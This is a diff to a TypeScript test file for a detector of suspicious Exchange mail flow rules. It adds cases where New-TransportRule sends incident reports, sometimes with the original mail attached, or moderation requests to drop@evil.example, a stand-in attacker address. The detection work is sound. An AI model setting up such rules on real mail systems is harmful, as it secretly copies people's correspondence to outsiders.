@@ -21,6 +21,28 @@ export const cases: readonly SignalCase[] = [
       },
     ],
   },
+  ...[
+    { GenerateIncidentReport: 'drop@evil.example', IncidentReportContent: 'Sender;AttachOriginalMail' },
+    { GenerateIncidentReport: 'drop@evil.example' },
+    { ModerateMessageByUser: 'drop@evil.example' },
+  ].map((parameters) => ({
+    name: `a rule lets someone outside read mail: ${Object.keys(parameters).join(', ')}`,
+    rows: [did('New-TransportRule', { Name: 'Report', ...parameters })],
+    known,
+    signs: says(gil.id, 'A', 'the mail flow rule Report, which sends mail to drop@evil.example'),
+  })),
+  {
+    name: 'a rule reports outside who wrote to whom',
+    rows: [
+      did('New-TransportRule', {
+        Name: 'Report',
+        GenerateIncidentReport: 'desk@service.example',
+        IncidentReportContent: 'Sender;Subject',
+      }),
+    ],
+    known,
+    signs: says('transportrule report', 'C'),
+  },
   {
     name: 'links and attachments are not checked any more',
     rows: [
